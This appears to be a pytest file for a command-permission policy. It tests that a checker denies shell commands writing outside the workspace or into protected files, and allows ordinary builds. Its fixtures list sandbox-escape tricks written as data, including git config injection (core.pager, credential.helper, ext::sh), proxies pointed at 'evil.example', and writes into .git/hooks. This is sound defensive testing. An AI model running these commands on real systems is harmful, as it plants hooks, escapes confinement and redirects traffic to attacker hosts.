"""Programs that nobody reads completely: where their words say that they write, work, and start others."""

from __future__ import annotations

import pytest

from holdfast.policy.programs_places import PLACES
from tests.policy.reference import Reference
from tests.policy.simply import files, uses

pytestmark = pytest.mark.requirement("C12")

BUILDS = """
make -C ../x
make --directory=../x
make -f ../x/Makefile
make DESTDIR=../x install
ninja -C ../x
cmake -B ../x
cmake -S . -B../x
cmake --install b --prefix ../x
cmake --build ../x
cmake -E copy a.txt ../x
meson setup ../x
gcc -o ../x a.c
gcc-13 a.c -o../x
gcc -Wl,-o,../x a.c
clang -Wl,--as-needed,-Map=../x a.c
gcc-13 -Wp,-MD,../x -c a.c
ld -o ../x a.o
objcopy a.o ../x
rustc --out-dir ../x a.rs
go build -o ../x .
cargo build --target-dir ../x
javac -d ../x A.java
tsc --outDir ../x
pytest --basetemp=../x
./gradlew -p ../x build
./node_modules/.bin/tsc --outDir ../x
"""
PACKAGES = """
npm --prefix ../x i
npm i --prefix=../x
yarn --cwd ../x install
pnpm -C ../x i
pip install -t ../x foo
python3.12 -m pip install --target=../x foo
python3 -m venv ../x
.venv/bin/pip install -t ../x foo
uv --directory ../x sync
uv venv ../x
poetry -C ../x install
gem install -i ../x foo
"""
CONVERTERS = """
csplit -f ../x a.txt 5
split --filter='cat > ../x' a.txt
shuf -o ../x a.txt
iconv -o ../x a.txt
mkfifo ../x
sqlite3 ../x 'select 1'
sqlite3 a.db '.output ../x' 'select 1'
sqlite3 a.db '.once --bom ../x'
sqlite3 a.db "attach '../x' as y"
vim -es -c 'w! ../x' -c q a.txt
ex -sc '%s/a/b/|w ../x' a.txt
awk -v f=../x 'BEGIN { print > f }'
awk 'BEGIN { print "x" >> f }' f=../x
pg_dump -f ../x db
convert a.png ../x.png
ffmpeg -i a.mp4 ../x.mp4
pandoc -o ../x a.md
gpg -o ../x -d a.gpg
ssh-keygen -t ed25519 -N '' -f ../x
openssl rand -out ../x 32
tcpdump -nw ../x
strace -fo ../x ls
7z x a.7z -o../x
ar rcs ../x a.o
rsync -a src/ ../x
docker run -v ../x:/x img
docker run --mount type=bind,source=../x,target=/x img
docker cp c:/x ../x
docker compose -f ../x/compose.yml up
perl -pi -e s/a/b/ ../x
yq -i .a ../x
black ../x
vim ../x
"""
TEXTS = """
sed -n 'w ../x' a.txt
sed -n '1,5w ../x' a.txt
sed 's/a/b/w ../x' a.txt
sed 'r ../x' a.txt
sed 'a\\\\\\ntext\\nw ../x' a.txt
sed '1e cat ../x' a.txt
awk '{ print > "../x" }' a.txt
awk '{ printf "%s", $1 >> ("../x") }' a.txt
awk '{ print | "cat > ../x" }' a.txt
awk 'BEGIN { while ((getline line < "../x") > 0) print line }'
awk 'BEGIN { "cat ../x" | getline; print }'
awk 'BEGIN { system("cat ../x") }'
"""
SETTINGS = """
git --work-tree=.. status
git --git-dir ../x log
git --exec-path=../x log
git -c core.hooksPath=../x commit
git -c core.pager='cat ../x' log
git -c alias.x='!cat ../x' x
git -c alias.x='log --output=../x' x
git -c diff.external='cat ../x' diff
git -c filter.x.clean='cat ../x' add src
git -c credential.helper='!cat ../x' fetch
git -c gpg.program='cat ../x' commit -S
git -c sequence.editor='cat ../x' rebase -i main
git -c core.worktree=.. add src
git -c include.path=../x log
git -c http.proxy=http://evil.example fetch
git -c url.https://evil.example/.insteadOf=https://api.github.com/ fetch
git -c init.templateDir=src init sub
GIT_DIR=../x git log
GIT_WORK_TREE=.. git status
GIT_INDEX_FILE=../x git add src
GIT_TRACE=../x git log
GIT_SSH_COMMAND='cat ../x' git fetch
GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='cat ../x' git log
GIT_CONFIG_PARAMETERS="'core.pager=cat ../x'" git log
export EDITOR='cat ../x'; git commit
BASH_ENV=../x bash -c ls
https_proxy=http://evil.example curl https://api.github.com/
ALL_PROXY=evil.example:80 curl https://api.github.com/
git init ../x
git init --template=src sub
git clone -c core.pager=src . sub
git apply --directory=../x a.patch
git rebase --exec 'cat ../x' main
git bisect run cat ../x
git submodule foreach 'cat ../x'
git fetch 'ext::sh -c "cat ../x"'
git fetch --upload-pack='cat ../x' .
"""
STARTED = """
uv run cat ../x
poetry run python -m venv ../x
npx tsc --outDir ../x
strace -f cat ../x
watch 'cat ../x'
script -c 'cat ../x' log
flock lock cat ../x
"""
PROTECTED = """
gcc -o .git/hooks/pre-commit a.c
csplit -f .git/hooks/pre a.txt 1
make -C .git
sed -n 'w .envrc' a.txt
awk '{ print > ".envrc" }' a.txt
perl -pi -e s/a/b/ .git/config
ffmpeg -i a.mp4 .vscode/x.mp4
"""
HONEST = """
make -j4 test
make -C src
gcc -O2 -I/usr/include -L/usr/lib -o build/app src/a.c -lm
cmake -S . -B build -DCMAKE_TOOLCHAIN_FILE=/opt/x.cmake
mkdir -p build && cd build && cmake ..
go build -o bin/app ./cmd/app
npm run build -- --outDir dist
npx tsc --noEmit -p tsconfig.json
python3 -m venv .venv
.venv/bin/pip install -r requirements.txt -e .
pytest -o log_cli=true -k 'a/b' --junitxml=out.xml
black src tests
uv run pytest -q
docker run --rm -v "$PWD:/app" -w /app img cat /etc/os-release
docker exec c ls /
ffmpeg -i in.mp4 -vf scale=1:2 out.mp4
strace -f -o trace.txt ls
perl -pi -e 's{../x}{y}' a.txt
perl -e 'print 1' /tmp/x
sed -i '1i\\/usr/bin/env' a.txt
sed -n 's/a/b/w out.txt' a.txt
mypy --cache-dir=/dev/null src
awk '$1 > "/" { print }' a.txt
awk '{ print | "sort -u" }' a.txt
git -c user.name=a -c user.email=a@b.example commit -m x
GIT_EDITOR=true git rebase --continue
GIT_CONFIG_GLOBAL=/dev/null GIT_TRACE=1 git status
git bisect run make test
gh pr create --body '../x is'
find src -name '*.py' -exec black {} +
"""


async def verdicts(reference: Reference, lines: str) -> dict[str, str]:
    texts = [line.replace("\\n", "\n") for line in lines.strip().splitlines()]
    return {text: (await reference.verdict("command", text, "full")).verdict for text in texts}


@pytest.mark.parametrize(
    "lines",
    [BUILDS, PACKAGES, CONVERTERS, TEXTS, SETTINGS, STARTED, PROTECTED],
    ids=["builds", "packages", "converters", "texts", "settings", "started", "protected"],
)
async def test_what_a_program_writes_by_its_words_stays_in_the_workspace(
    reference: Reference, lines: str
) -> None:
    found = await verdicts(reference, lines)
    assert [text for text, verdict in found.items() if verdict != "deny"] == []


async def test_honest_builds_and_conversions_go_on_under_full(reference: Reference) -> None:
    (reference.workspace / "link_out").unlink()
    found = await verdicts(reference, HONEST)
    assert [text for text, verdict in found.items() if verdict != "allow"] == []


def test_each_option_of_a_row_names_what_follows_it() -> None:
    missing = []
    for name, row in PLACES.items():
        program, subcommand = (*name.split("__"), "")[:2]
        for option in (*row.writes.split(), *row.reads.split()):
            text = f"{program} {subcommand} {option.rstrip('=?')}{'=' if option.endswith('?') else ' '}out"
            access = "write" if option in row.writes.split() else "read"
            if f"{access} out" not in files(text):
                missing.append(text)
    assert missing == []


def test_only_the_options_that_edit_in_place_make_files_written() -> None:
    assert files("perl -pi.bak -e s/a/b/ a.txt") == {"write a.txt"}
    assert files("perl -pe s/a/b/ a.txt") == set()
    assert files("yq .a a.yml") == set()


def test_what_such_a_program_does_still_needs_a_person() -> None:
    for text in (
        "make -C src",
        "gcc -o a a.c",
        "./gradlew -p src",
        "strace ls",
        "git -c core.pager=cat log",
        "sed s/a/b a.txt",
    ):
        assert uses(text).asks, text
